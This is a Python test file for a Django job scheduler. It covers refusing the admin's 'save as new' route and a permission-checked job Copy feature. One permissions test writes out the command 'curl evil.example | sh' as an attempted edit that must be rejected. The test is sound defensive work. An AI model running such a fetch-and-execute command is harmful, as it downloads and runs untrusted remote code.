"""Issue 13, no side doors: Django's hidden "save as new" is refused; "Copy" (``Job.copy``) replaces it.

Posting ``_saveasnew`` to a job's change page turned it into an add form (an editable identifier, a
new job of whoever posted). Copy asks for the new identifier, copies every field, line and schedule
setting, keeps the confirmation (destructive, external), and makes the copy inactive.
"""
from __future__ import annotations

import json

import pytest
from django.contrib.auth import get_user_model
from django.core.exceptions import PermissionDenied, ValidationError
from django.urls import reverse

from jobs.models import DomainMembership, Job, JobLine, Schedule
from tests.helpers import make_job
from tests.jobs.test_admin_job_form import page_data

pytestmark = pytest.mark.django_db


@pytest.fixture
def source(acme):
    """A job with every field away from its default, two lines (one a system administrator's) and a schedule."""
    service = get_user_model().objects.create_user("svc-reports")
    job = make_job(
        "nightly", (10, "core.shell", {"command": "echo ${param.who}"}), (20, "core.sleep", {"seconds": 0}, False),
        name="Nightly", description="Does the nightly things", domain=acme, stops_on_error=False, module="ops",
        queue="slow", params=[{"name": "who", "type": "str", "required": False, "pattern": "[a-z]+", "default": "ann"}],
        job_type="reporting", run_as=service, required_permission="auth.view_user", destructive=True,
        external=True, concurrency=Job.PARALLEL, time_limit=600, idempotent=True, retries=3, retry_delay=30,
        report={"recipients": ["ops@example.com"], "when": "failure"}, owner="Ops team",
        expected_runtime="about 5 minutes", expected_result="a report", troubleshooting="check the disk",
    )
    Schedule.objects.create(job=job, kind=Schedule.INTERVAL, every=5, every_unit="minutes",
                            timezone="Europe/Madrid", catch_up=Schedule.CATCH_UP_SKIP)
    return job


def copied_fields() -> list[str]:
    return [f.attname for f in Job._meta.concrete_fields if f.name not in Job.NOT_COPIED]


def test_copy_keeps_every_field_line_and_schedule_setting(source):
    copy = Job.copy(source, "nightly-2", "Nightly, again")
    copy.refresh_from_db()
    defaults = Job(identifier="x", name="x")
    for name in copied_fields():
        assert getattr(copy, name) == getattr(source, name), name
        if name not in ("domain_id", "execution"):
            assert getattr(source, name) != getattr(defaults, name), f"{name}: the fixture must set it"
    assert copy.destructive and copy.external and copy.confirmation_reasons() == source.confirmation_reasons()
    assert (copy.identifier, copy.name, copy.active) == ("nightly-2", "Nightly, again", False)
    assert [(li.line_no, li.action_id, li.parameters, li.active) for li in copy.lines.order_by("line_no")] == \
           [(li.line_no, li.action_id, li.parameters, li.active) for li in source.lines.order_by("line_no")]
    assert source.lines.count() == 2  # the original keeps its own lines


def test_the_copy_starts_inactive_so_its_schedule_never_fires_until_activated(source):
    copy = source.copy("nightly-2")
    schedule = Schedule.objects.get(job=copy)
    assert (schedule.kind, schedule.every, schedule.every_unit, schedule.timezone, schedule.catch_up) == (
        Schedule.INTERVAL, 5, "minutes", "Europe/Madrid", Schedule.CATCH_UP_SKIP)
    assert schedule.next_run_at is None and schedule.last_run_at is None
    copy.active = True
    copy.save()
    assert Schedule.objects.get(job=copy).next_run_at is not None


def test_copy_names_a_taken_or_malformed_identifier(source):
    with pytest.raises(ValidationError) as taken:
        source.copy("nightly")
    assert "identifier" in taken.value.message_dict
    with pytest.raises(ValidationError) as malformed:
        source.copy("Not An Identifier")
    assert "identifier" in malformed.value.message_dict
    assert Job.objects.count() == 1


def test_only_who_may_edit_the_job_may_copy_it(source, member, acme, globex):
    with pytest.raises(PermissionDenied):
        source.copy("nightly-2", user=member("otto", acme, DomainMembership.OPERATOR))
    with pytest.raises(PermissionDenied):
        source.copy("nightly-2", user=member("gina", globex, DomainMembership.ADMIN))
    assert Job.objects.count() == 1


# --- the admin -------------------------------------------------------------------------------------------
def test_save_as_new_is_refused(client, member, acme):
    job = make_job("plain", (10, "core.sleep", {"seconds": 0}), domain=acme)
    client.force_login(member("ann", acme, DomainMembership.ADMIN))
    url = reverse("admin:jobs_job_change", args=[job.pk])
    data = {**page_data(client.get(url)), "_saveasnew": "Save as new", "identifier": "mine", "name": "Mine"}
    response = client.post(url, data)
    assert response.status_code == 400
    assert "Save as new is not available for jobs: use Copy" in response.content.decode()
    assert list(Job.objects.values_list("identifier", flat=True)) == ["plain"]


def test_save_as_new_is_refused_to_a_system_administrator_too(client, admin_user, source):
    client.force_login(admin_user)
    url = reverse("admin:jobs_job_change", args=[source.pk])
    response = client.post(url, {**page_data(client.get(url)), "_saveasnew": "1", "identifier": "other"})
    assert response.status_code == 400
    assert Job.objects.count() == 1


def test_domain_admin_copies_from_the_job_page_and_the_authors_line_stays_the_authors(client, member, acme,
                                                                                      source):
    ann = member("ann", acme, DomainMembership.ADMIN)
    client.force_login(ann)
    page = client.get(reverse("admin:jobs_job_change", args=[source.pk])).content.decode()
    copy_url = reverse("admin:jobs_job_copy", args=[source.pk])
    assert copy_url in page
    response = client.post(copy_url, {"identifier": "nightly-ann", "name": ""})
    copy = Job.objects.get(identifier="nightly-ann")
    assert response.status_code == 302 and response["Location"] == reverse("admin:jobs_job_change", args=[copy.pk])
    assert (copy.name, copy.domain, copy.active, copy.destructive) == ("Nightly", acme, False, True)
    # The copy's shell line is still a system administrator's: ann cannot change it there either.
    url = reverse("admin:jobs_job_change", args=[copy.pk])
    data = page_data(client.get(url))
    prefix = next(k.removesuffix("-line_no") for k, v in data.items() if k.endswith("-line_no") and str(v) == "10")
    data[f"{prefix}-parameters"] = json.dumps({"command": "curl evil.example | sh"})
    data[f"{prefix}-DELETE"] = "on"
    assert client.post(url, data).status_code == 200
    assert JobLine.objects.get(job=copy, line_no=10).parameters == {"command": "echo ${param.who}"}


def test_copy_page_names_a_taken_identifier(client, admin_user, source):
    client.force_login(admin_user)
    response = client.post(reverse("admin:jobs_job_copy", args=[source.pk]), {"identifier": "nightly"})
    assert response.status_code == 200
    assert response.context["form"].errors["identifier"]
    assert Job.objects.count() == 1


def test_operator_may_not_copy(client, member, acme, source):
    client.force_login(member("otto", acme, DomainMembership.OPERATOR))
    assert client.get(reverse("admin:jobs_job_copy", args=[source.pk])).status_code == 403
    assert client.post(reverse("admin:jobs_job_copy", args=[source.pk]), {"identifier": "x"}).status_code == 403
    assert Job.objects.count() == 1


def test_the_list_action_leads_to_the_copy_page_of_one_job(client, admin_user, source, acme):
    other = make_job("other", domain=acme)
    client.force_login(admin_user)
    changelist = reverse("admin:jobs_job_changelist")
    response = client.post(changelist, {"action": "copy_job", "index": 0, "_selected_action": [source.pk]})
    assert response["Location"] == reverse("admin:jobs_job_copy", args=[source.pk])
    response = client.post(changelist, {"action": "copy_job", "index": 0,
                                        "_selected_action": [source.pk, other.pk]}, follow=True)
    assert "Select exactly one job to copy." in response.content.decode()
    assert Job.objects.count() == 2
